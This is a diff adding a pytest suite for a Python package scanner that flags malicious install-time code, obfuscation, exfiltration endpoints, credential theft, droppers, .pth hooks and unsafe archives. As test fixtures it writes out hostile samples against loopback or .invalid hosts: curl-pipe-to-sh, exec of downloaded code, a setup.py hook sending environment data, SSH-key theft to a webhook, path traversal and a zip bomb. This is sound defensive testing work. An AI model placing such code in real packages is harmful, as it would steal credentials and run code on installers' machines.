@@ -1,0 +1,647 @@
+"""The static artifact scan: detectors, scoring, archive safety, and the rule.
+
+Every sample is benign by construction: URLs point at 127.0.0.1 or a reserved
+``.invalid`` name, paths stay in temporary directories, and nothing is ever run
+(the scanner never runs anything; the tests only build archives in memory).
+"""
+
+from __future__ import annotations
+
+import io
+import tarfile
+import zipfile
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from packaging.utils import canonicalize_name
+from packaging.version import Version
+
+from guard.analysis.scan import ScanResult, scan_archive
+from guard.analysis.scan.archive import Limits, UnsafeArchive, native_kind, read_archive
+from guard.analysis.scan.python import analyse
+from guard.models import Action, Candidate, Source
+from guard.rules.base import Context
+from guard.rules.scan import SCAN_RULES, InstallTimeCode
+
+ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
+
+
+# --- building archives in memory ----------------------------------------------------
+
+
+def sdist(tmp_path: Path, files: dict[str, str | bytes], name: str = "demo-1.0") -> Path:
+    """A gzipped tar ``{name}.tar.gz`` with ``files`` under ``{name}/``."""
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
+        for path, content in files.items():
+            data = content.encode() if isinstance(content, str) else content
+            info = tarfile.TarInfo(f"{name}/{path}")
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    target = tmp_path / f"{name}.tar.gz"
+    target.write_bytes(buffer.getvalue())
+    return target
+
+
+def wheel(tmp_path: Path, files: dict[str, str | bytes], name: str = "demo-1.0") -> Path:
+    """A py3-none-any wheel with ``files`` (no RECORD needed for scanning)."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for path, content in files.items():
+            archive.writestr(path, content)
+    target = tmp_path / f"{name.replace('-', '-', 1)}-py3-none-any.whl"
+    target.write_bytes(buffer.getvalue())
+    return target
+
+
+def scan(path: Path, **kwargs: float) -> ScanResult:
+    return scan_archive(path, path.name, **kwargs)
+
+
+def rules(result: ScanResult) -> set[str]:
+    return {f.rule for f in result.findings}
+
+
+def setup_py(body: str) -> str:
+    return f"{body}\nfrom setuptools import setup\nsetup(name='demo', version='1.0')\n"
+
+
+# --- honest build scripts stay clean --------------------------------------------------
+
+HONEST_SETUP = """
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+from setuptools import Extension, setup
+from setuptools.command.build_ext import build_ext
+
+here = Path(__file__).parent
+long_description = (here / "README.md").read_text(encoding="utf-8")
+about = {}
+exec(open(os.path.join("demo", "__version__.py")).read(), about)
+
+def git_version():
+    return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()
+
+class CMakeBuild(build_ext):
+    def run(self):
+        jobs = os.environ.get("MAX_JOBS", "2")
+        cc = os.environ.get("CC", "cc")
+        subprocess.check_call(["cmake", "-S", ".", "-B", "build", f"-DCC={cc}"])
+        subprocess.check_call(["cmake", "--build", "build", "-j", jobs])
+        subprocess.check_call([sys.executable, "-m", "cython", "demo/fast.pyx"])
+
+setup(
+    name="demo",
+    version=about["__version__"],
+    long_description=long_description,
+    ext_modules=[Extension("demo._fast", ["demo/fast.c"])],
+    cmdclass={"build_ext": CMakeBuild},
+)
+"""
+
+
+def test_honest_setup_py_is_clean(tmp_path: Path) -> None:
+    path = sdist(
+        tmp_path,
+        {
+            "setup.py": HONEST_SETUP,
+            "demo/__init__.py": "from demo.__version__ import __version__\n",
+            "demo/__version__.py": "__version__ = '1.0'\n",
+            "README.md": "# demo\n",
+        },
+    )
+    result = scan(path)
+    assert result.findings == (), result.findings
+    assert result.level == "clean"
+    assert result.files_read == 3
+
+
+def test_library_code_calling_subprocess_in_functions_is_clean(tmp_path: Path) -> None:
+    module = (
+        "import subprocess, requests\n"
+        "def run(cmd):\n    return subprocess.run(cmd, check=True)\n"
+        "def fetch(url):\n    return requests.get(url, timeout=5)\n"
+    )
+    path = wheel(tmp_path, {"demo/__init__.py": "", "demo/util.py": module})
+    assert scan(path).findings == ()
+
+
+# --- install-time-code ------------------------------------------------------------------
+
+
+def test_setup_py_spawning_powershell_blocks(tmp_path: Path) -> None:
+    body = (
+        "import subprocess\n"
+        "subprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-Command', 'echo hi'])\n"
+    )
+    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
+    assert result.level == "block"
+    first = result.findings[0]
+    assert first.rule == "install-time-code"
+    assert not first.weak
+    assert "setup.py:2" in first.message and "powershell" in first.message
+    assert first.evidence[0][0] == "setup.py:2"
+    assert "subprocess.Popen" in first.evidence[0][1]
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        # a build tool's name (python) running code that fetches and runs more code
+        'os.system("python -c \\"import urllib.request;'
+        "exec(urllib.request.urlopen('http://127.0.0.1:9/x').read())\\\"\")",
+        "subprocess.call([sys.executable, '-c', 'import base64;exec(base64.b64decode(B))'])",
+        "subprocess.Popen('node -e \"require(\\'child_process\\').exec(x)\"', shell=True)",
+    ],
+)
+def test_setup_py_running_inline_code_that_runs_more_blocks(tmp_path: Path, call: str) -> None:
+    body = f"import os, subprocess, sys\n{call}\n"
+    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
+    assert result.level == "block", result.findings
+    assert "runs inline code" in result.findings[0].message
+
+
+def test_setup_py_asking_python_a_question_is_clean(tmp_path: Path) -> None:
+    body = (
+        "import subprocess, sys\n"
+        "inc = subprocess.check_output([sys.executable, '-c', "
+        "'import sysconfig; print(sysconfig.get_paths()[\"include\"])'])\n"
+    )
+    assert scan(sdist(tmp_path, {"setup.py": setup_py(body)})).findings == ()
+
+
+def test_cmdclass_install_that_sends_host_data_blocks(tmp_path: Path) -> None:
+    body = """
+import getpass, json, os, socket, urllib.request
+from setuptools.command.install import install
+
+class Install(install):
+    def run(self):
+        data = json.dumps({"host": socket.gethostname(), "user": getpass.getuser(),
+                           "env": dict(os.environ)}).encode()
+        urllib.request.urlopen("http://127.0.0.1:9/collect", data=data)
+        install.run(self)
+"""
+    code = body + "\nfrom setuptools import setup\nsetup(cmdclass={'install': Install})\n"
+    result = scan(sdist(tmp_path, {"setup.py": code}))
+    assert result.level == "block"
+    assert "install-time-code" in rules(result)
+    assert "collects host data" in result.findings[0].message
+
+
+def test_in_tree_backend_is_install_time(tmp_path: Path) -> None:
+    backend = "import os\nos.system('curl http://127.0.0.1:9/x | sh')\n"
+    pyproject = '[build-system]\nrequires = []\nbuild-backend = "_build.backend"\n'
+    pyproject += 'backend-path = ["."]\n'
+    path = sdist(
+        tmp_path,
+        {"pyproject.toml": pyproject, "_build/backend.py": backend, "_build/__init__.py": ""},
+    )
+    result = scan(path)
+    assert result.level == "block"
+    assert any("_build/backend.py:2" in k for f in result.findings for k, _ in f.evidence)
+
+
+def test_module_that_setup_py_imports_is_install_time(tmp_path: Path) -> None:
+    helper = "import subprocess\nsubprocess.call('cmd.exe /c start payload.bat', shell=True)\n"
+    path = sdist(tmp_path, {"setup.py": setup_py("import buildhelp"), "buildhelp.py": helper})
+    result = scan(path)
+    assert result.level == "block"
+    assert "buildhelp.py:2" in result.findings[0].message
+
+
+def test_python2_setup_py_falls_back_to_text(tmp_path: Path) -> None:
+    code = 'import os\nprint "installing"\nos.system("powershell -enc ZQBjAGgAbwA=")\n'
+    report = analyse(code)
+    assert report.parsed == "tokens"
+    result = scan(sdist(tmp_path, {"setup.py": code}))
+    assert result.level == "block"
+    assert "install-time-code" in rules(result)
+
+
+# --- obfuscated-code ---------------------------------------------------------------------
+
+
+def test_base64_exec_chain_blocks(tmp_path: Path) -> None:
+    body = "import base64 as b\npayload = b.b64decode('cHJpbnQoJ2hpJyk=')\nexec(payload)\n"
+    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
+    assert result.level == "block"
+    assert result.findings[0].rule == "obfuscated-code"
+    assert "exec() of decoded data" in result.findings[0].message
+
+
+def test_zlib_marshal_and_dunder_import_chains(tmp_path: Path) -> None:
+    code = (
+        "z = __import__('zlib')\n"
+        "getattr(__builtins__, 'exec')\n"
+        "exec(z.decompress(b'x\\x9c+\\xca\\xcc+\\xd1P\\xf2\\xc8T\\xd2\\x04\\x00\\x1c\\xc5\\x03\\xd9'))\n"
+    )
+    hits = {h.kind for h in analyse(code).hits}
+    assert "decode-exec" in hits
+    assert "marshal" in {h.kind for h in analyse("import marshal\nmarshal.loads(b'')\n").hits}
+
+
+def test_chr_joined_string_fed_to_exec(tmp_path: Path) -> None:
+    body = "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41, 10]))\n"
+    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
+    assert result.level == "block"
+    assert "obfuscated-code" in rules(result)
+
+
+def test_chr_over_a_computed_range_is_not_obfuscation() -> None:
+    code = "CONTROL = ''.join(chr(i) for i in range(32))\n"
+    assert analyse(code).hits == ()
+
+
+def test_bidi_control_and_homoglyph_identifiers() -> None:
+    bidi = analyse("access = 'user'  # \u202e } \u2066if admin:\u2069 \u2066\n")
+    assert {h.kind for h in bidi.hits} == {"bidi"}
+    mixed = analyse("p\u0430yload = 1\nprint(p\u0430yload)\n")  # Cyrillic a in a Latin name
+    assert [h.kind for h in mixed.hits] == ["homoglyph"]
+    folded = analyse("\uff45\uff58\uff45\uff43('1')\n")  # fullwidth "exec", which Python runs
+    assert "homoglyph" in {h.kind for h in folded.hits}
+    native = analyse("\u0434\u0430\u043d\u043d\u044b\u0435 = 1\n")  # an all-Cyrillic name
+    assert native.hits == ()
+
+
+def test_high_entropy_literal_is_weak_alone(tmp_path: Path) -> None:
+    blob = "".join(chr(33 + (i * 7919) % 90) for i in range(400)).replace(" ", "")
+    blob = "".join(c for c in blob if c.isalnum() or c in "+/=")
+    body = f"BLOB = {blob!r}\n"
+    hits = [h for h in analyse(body).hits if h.kind == "blob"]
+    assert hits and hits[0].rule == "obfuscated-code"
+    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
+    assert result.level == "clean"
+
+
+# --- exfil-endpoint ----------------------------------------------------------------------
+
+
+def test_discord_style_webhook_on_loopback_blocks_with_network(tmp_path: Path) -> None:
+    body = (
+        "import requests, socket\n"
+        "requests.post('http://127.0.0.1:9/api/webhooks/123456789012/"
+        "abcdefghijklmnopqrstuvwxyz0123', json={'content': socket.gethostname()})\n"
+    )
+    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
+    assert result.level == "block"
+    assert "exfil-endpoint" in rules(result)
+
+
+def test_endpoint_patterns() -> None:
+    samples = {
+        "https://discord.com/api/webhooks/1/x": "Discord webhook",
+        "https://api.telegram.org/bot123:abc/sendMessage": "Telegram bot API",
+        "https://pastebin.com/raw/abc": "paste site",
+        "https://abc-12.ngrok-free.app/x": "tunnel",
+        "https://x.webhook.site/abc": "request bin",
+    }
+    for url, what in samples.items():
+        hits = [h for h in analyse(f"U = {url!r}\n").hits if h.rule == "exfil-endpoint"]
+        assert hits and what in hits[0].text, url
+    raw = analyse("U = 'http://198.51.100.7:8080/x'\n").hits
+    assert [h.kind for h in raw] == ["raw-ip"]
+    local = analyse("U = 'http://127.0.0.1:8000/'\n").hits
+    assert [h.kind for h in local] == ["raw-ip-local"]
+
+
+# --- credential-access -------------------------------------------------------------------
+
+
+def test_ssh_keys_and_browser_data_in_setup_py_block(tmp_path: Path) -> None:
+    body = (
+        "import os, urllib.request\n"
+        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+        "cookies = os.path.join('Google', 'Chrome', 'User Data', 'Default', 'Network/Cookies')\n"
+        "urllib.request.urlopen('http://collector.invalid/', data=key.encode())\n"
+    )
+    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
+    assert result.level == "block"
+    assert "credential-access" in rules(result)
+
+
+def test_secret_environment_variable(tmp_path: Path) -> None:
+    hits = analyse("import os\nt = os.environ['GITHUB_TOKEN']\nu = os.getenv('CC')\n").hits
+    assert [h.kind for h in hits] == ["env-secret"]
+
+
+# --- dropper ----------------------------------------------------------------------------
+
+
+def test_download_then_execute_blocks(tmp_path: Path) -> None:
+    body = (
+        "import os, subprocess, tempfile, urllib.request\n"
+        "target = os.path.join(tempfile.gettempdir(), 'update.exe')\n"
+        "urllib.request.urlretrieve('http://127.0.0.1:9/update.exe', target)\n"
+        "subprocess.Popen([target])\n"
+    )
+    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
+    assert result.level == "block"
+    assert "dropper" in rules(result)
+
+
+def test_exec_of_downloaded_code_is_a_dropper() -> None:
+    code = "import requests\nexec(requests.get('http://127.0.0.1:9/p.py').text)\n"
+    assert "download-exec" in {h.kind for h in analyse(code).hits}
+
+
+def test_autostart_write() -> None:
+    code = (
+        "import os\n"
+        "p = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', "
+        "'Start Menu\\\\Programs\\\\Startup', 'x.bat')\n"
+        "open(p, 'w').write('echo')\n"
+    )
+    assert "autostart" in {h.kind for h in analyse(code).hits}
+
+
+# --- pth-code ---------------------------------------------------------------------------
+
+
+def test_pth_that_execs_blocks(tmp_path: Path) -> None:
+    pth = "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
+    result = scan(wheel(tmp_path, {"demo/__init__.py": "", "demo-hook.pth": pth}))
+    assert result.level == "block"
+    assert result.findings[0].rule in {"pth-code", "obfuscated-code"}
+    assert "pth-code" in rules(result)
+
+
+def test_namespace_and_path_pth_files_are_clean(tmp_path: Path) -> None:
+    shim = (
+        "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
+        "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('demo',));"
+        "importlib = has_mfs and __import__('importlib.util');"
+        "has_mfs and __import__('importlib.machinery');"
+        "m = has_mfs and sys.modules.setdefault('demo', importlib.util.module_from_spec("
+        "importlib.machinery.PathFinder.find_spec('demo', [os.path.dirname(p)])));"
+        "m = m or sys.modules.setdefault('demo', types.ModuleType('demo'));"
+        "mp = (m or []) and m.__dict__.setdefault('__path__',[]);"
+        "(p not in mp) and mp.append(p)\n"
+    )
+    files: dict[str, str | bytes] = {"demo-nspkg.pth": shim, "demo-paths.pth": "src\n"}
+    assert scan(wheel(tmp_path, files)).findings == ()
+
+
+# --- bundled-binary ------------------------------------------------------------------------
+
+
+def test_native_binary_in_pure_wheel_warns_alone(tmp_path: Path) -> None:
+    result = scan(wheel(tmp_path, {"demo/__init__.py": "", "demo/helper": ELF}))
+    assert rules(result) == {"bundled-binary"}
+    assert all(f.weak for f in result.findings)
+
+
+def test_native_binary_run_from_a_pth_blocks(tmp_path: Path) -> None:
+    pth = "import subprocess; subprocess.Popen(['demo/helper.exe'])\n"
+    files: dict[str, str | bytes] = {"demo/helper.exe": ELF, "demo.pth": pth}
+    result = scan(wheel(tmp_path, files))
+    assert result.level == "block"
+    assert {"bundled-binary", "pth-code"} <= rules(result)
+
+
+def test_native_kind() -> None:
+    assert native_kind(ELF) == "ELF"
+    assert native_kind(b"MZ" + b"\x00" * 58 + b"\x80\x00\x00\x00") == "PE"
+    assert native_kind(b"\xcf\xfa\xed\xfe" + b"\x00" * 12) == "Mach-O"
+    assert native_kind(b"#!/bin/sh\n") == ""
+
+
+# --- scoring ----------------------------------------------------------------------------
+
+
+def test_deep_module_signals_are_capped_below_block(tmp_path: Path) -> None:
+    deep = (
+        "NETRC = '~/.netrc'\nSSH = '~/.ssh/config'\n"
+        "HOOK = 'https://discord.com/api/webhooks/1/x'\n"
+        "IP = 'http://198.51.100.7/'\n"
+    )
+    files: dict[str, str | bytes] = {"demo/__init__.py": "", "demo/launcher.exe": ELF}
+    files.update({f"demo/sub/m{i}.py": deep for i in range(3)})
+    files["demo/sub/__init__.py"] = ""
+    result = scan(wheel(tmp_path, files))
+    assert result.level == "warn"
+    assert "capped" in result.findings[0].message
+
+
+def test_decode_exec_in_a_top_level_init_blocks(tmp_path: Path) -> None:
+    init = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
+    result = scan(wheel(tmp_path, {"demo/__init__.py": init}))
+    assert result.level == "block"
+
+
+def test_tests_and_docs_count_least(tmp_path: Path) -> None:
+    code = "import subprocess\nsubprocess.Popen(['powershell', '-c', 'echo'])\n"
+    files: dict[str, str | bytes] = {"tests/test_x.py": code, "docs/conf.py": code}
+    assert scan(sdist(tmp_path, files)).level == "clean"
+
+
+def test_score_message_lists_parts_strongest_first(tmp_path: Path) -> None:
+    body = (
+        "import base64, subprocess\n"
+        "subprocess.call('powershell -enc AAAA', shell=True)\n"
+        "exec(base64.b64decode('cHJpbnQoMSk='))\n"
+    )
+    result = scan(sdist(tmp_path, {"setup.py": setup_py(body)}))
+    message = result.findings[0].message
+    assert message.index("setup.py:3") < message.index("setup.py:2")
+    assert "scan score 11.0 >= 5.0 (block)" in message
+    assert [f.score for f in result.findings] == sorted(
+        (f.score for f in result.findings), reverse=True
+    )
+
+
+# --- archive safety -------------------------------------------------------------------------
+
+
+def _tar_with(tmp_path: Path, info: tarfile.TarInfo, data: bytes = b"") -> Path:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
+        archive.addfile(info, io.BytesIO(data) if data else None)
+    path = tmp_path / "demo-1.0.tar.gz"
+    path.write_bytes(buffer.getvalue())
+    return path
+
+
+@pytest.mark.parametrize(
+    ("kind", "name", "link"),
+    [
+        ("file", "demo-1.0/../../etc/evil.py", ""),
+        ("file", "/abs/evil.py", ""),
+        ("sym", "demo-1.0/link", "../../outside"),
+        ("sym", "demo-1.0/link", "/etc/passwd"),
+        ("hard", "demo-1.0/link", "../elsewhere"),
+        ("fifo", "demo-1.0/pipe", ""),
+        ("chr", "demo-1.0/dev", ""),
+    ],
+)
+def test_unsafe_tar_members_are_refused(tmp_path: Path, kind: str, name: str, link: str) -> None:
+    info = tarfile.TarInfo(name)
+    data = b""
+    if kind == "file":
+        data = b"x = 1\n"
+        info.size = len(data)
+    elif kind == "sym":
+        info.type, info.linkname = tarfile.SYMTYPE, link
+    elif kind == "hard":
+        info.type, info.linkname = tarfile.LNKTYPE, link
+    elif kind == "fifo":
+        info.type = tarfile.FIFOTYPE
+    else:
+        info.type = tarfile.CHRTYPE
+    result = scan(_tar_with(tmp_path, info, data))
+    assert result.level == "unreadable"
+    [finding] = result.findings
+    assert finding.rule == "unreadable-archive"
+    assert not finding.weak
+
+
+def test_in_tree_symlink_is_skipped_not_followed(tmp_path: Path) -> None:
+    info = tarfile.TarInfo("demo-1.0/docs/README")
+    info.type, info.linkname = tarfile.SYMTYPE, "../README"
+    assert scan(_tar_with(tmp_path, info)).findings == ()
+
+
+def test_zip_bomb_duplicates_and_links_are_refused(tmp_path: Path) -> None:
+    bomb = tmp_path / "bomb-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("bomb/zeros.bin", b"\x00" * (16 * 1024 * 1024))
+    with pytest.raises(UnsafeArchive, match="expands"):
+        read_archive(bomb, bomb.name, lambda name, size: "")
+    assert scan(bomb).level == "unreadable"
+
+    twice = tmp_path / "twice-1.0-py3-none-any.whl"
+    with (
+        pytest.warns(UserWarning, match="Duplicate name"),
+        zipfile.ZipFile(twice, "w") as archive,
+    ):
+        archive.writestr("twice/__init__.py", "x = 1")
+        archive.writestr("twice/__init__.py", "x = 2")
+    assert "duplicate" in scan(twice).findings[0].message
+
+    linked = tmp_path / "linked-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(linked, "w") as archive:
+        info = zipfile.ZipInfo("linked/key")
+        info.external_attr = (0o120777) << 16
+        archive.writestr(info, "/home/user/.ssh/id_rsa")
+    assert "link" in scan(linked).findings[0].message
+
+
+def test_total_and_member_caps(tmp_path: Path) -> None:
+    path = sdist(tmp_path, {"setup.py": "x = 1\n" * 100, "big.py": "y = 2\n" * 1000})
+    with pytest.raises(UnsafeArchive, match="uncompressed"):
+        read_archive(path, path.name, lambda n, s: "read", Limits(total=1000))
+    archive = read_archive(path, path.name, lambda n, s: "read", Limits(member=1000))
+    assert archive.oversized == ["demo-1.0/big.py"]
+    assert "demo-1.0/setup.py" in archive.contents
+
+
+def test_unreadable_archive_is_a_finding_not_clean(tmp_path: Path) -> None:
+    path = tmp_path / "broken-1.0.tar.gz"
+    path.write_bytes(b"\x1f\x8b\x08\x00 definitely not a gzip stream")
+    result = scan(path)
+    assert result.level == "unreadable"
+    assert result.findings[0].rule == "unreadable-archive"
+    other = tmp_path / "odd-1.0.rar"
+    other.write_bytes(b"Rar!\x1a\x07\x00")
+    assert scan(other).findings[0].rule == "unreadable-archive"
+
+
+# --- the budget -------------------------------------------------------------------------
+
+
+def test_budget_leaves_a_weak_note_but_reads_setup_py(tmp_path: Path) -> None:
+    files: dict[str, str | bytes] = {
+        "setup.py": setup_py("import os\nos.system('powershell -c echo')"),
+        "demo/__init__.py": "",
+    }
+    files.update({f"demo/m{i}.py": "x = 1\n" for i in range(20)})
+    result = scan(sdist(tmp_path, files), budget=0.0)
+    assert result.truncated
+    assert result.level == "block"
+    note = [f for f in result.findings if f.rule == "scan-incomplete"]
+    assert note and note[0].weak
+
+
+# --- the rule ---------------------------------------------------------------------------
+
+
+def _candidate(filename: str) -> Candidate:
+    return Candidate(
+        name=canonicalize_name("demo"),
+        version=Version("1.0"),
+        source=Source.INDEX,
+        url=f"http://127.0.0.1:9/{filename}",
+        filename=filename,
+        sha256=None,
+    )
+
+
+def test_rule_reads_the_verified_artifact_and_yields_all_ids(tmp_path: Path) -> None:
+    body = (
+        "import base64, requests\n"
+        "exec(base64.b64decode('cHJpbnQoMSk='))\n"
+        "requests.post('https://discord.com/api/webhooks/1/x', data=open('~/.ssh/id_rsa'))\n"
+    )
+    path = sdist(tmp_path, {"setup.py": setup_py(body)})
+    ctx = Context(now=datetime.now(UTC), artifacts={path.name: path})
+    found = list(InstallTimeCode().check(_candidate(path.name), None, ctx))
+    assert {"obfuscated-code", "exfil-endpoint", "credential-access", "install-time-code"} <= {
+        f.rule for f in found
+    }
+    assert all(not f.weak and f.score > 0 for f in found)
+
+    lenient = Context(
+        now=datetime.now(UTC),
+        artifacts={path.name: path},
+        thresholds={"install-time-code": {"block-score": 100.0, "warn-score": 1.0}},
+    )
+    assert all(f.weak for f in InstallTimeCode().check(_candidate(path.name), None, lenient))
+
+
+def test_rule_is_silent_without_the_artifact() -> None:
+    ctx = Context(now=datetime.now(UTC))
+    assert list(InstallTimeCode().check(_candidate("demo-1.0.tar.gz"), None, ctx)) == []
+
+
+def test_results_are_cached_per_file(tmp_path: Path) -> None:
+    path = sdist(tmp_path, {"setup.py": setup_py("import os")})
+    assert scan(path) is scan(path)
+
+
+def test_scan_rules_describe_every_id() -> None:
+    ids = [rule.id for rule in SCAN_RULES]
+    assert ids[0] == "install-time-code"
+    assert len(ids) == len(set(ids))
+    assert {
+        "obfuscated-code",
+        "exfil-endpoint",
+        "credential-access",
+        "dropper",
+        "bundled-binary",
+        "unreadable-archive",
+        "scan-incomplete",
+    } <= set(ids)
+    assert "pth-code" not in ids  # described by guard.rules.local.PthCode
+    for rule in SCAN_RULES:
+        assert rule.summary and rule.rationale
+        # Detections block or warn; a scan that ran out of time is only recorded.
+        expected = {Action.IGNORE} if rule.id == "scan-incomplete" else {Action.BLOCK, Action.WARN}
+        assert rule.default_action in expected
+
+
+def test_zip_members_not_read_count_only_towards_the_declared_cap(tmp_path: Path) -> None:
+    """A wheel of large native libraries is not a bomb: what is not read is not
+    decompressed, so only an absurd declared total is refused."""
+    path = tmp_path / "native-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("native/__init__.py", "x = 1\n")
+        archive.writestr("native/lib.so", b"\x7fELF" + bytes(4000))
+    wanted = lambda n, s: "read" if n.endswith(".py") else "head"  # noqa: E731
+    archive_read = read_archive(path, path.name, wanted, Limits(total=1000))
+    assert "native/__init__.py" in archive_read.contents
+    with pytest.raises(UnsafeArchive, match="declares more than"):
+        read_archive(path, path.name, wanted, Limits(declared=1000))
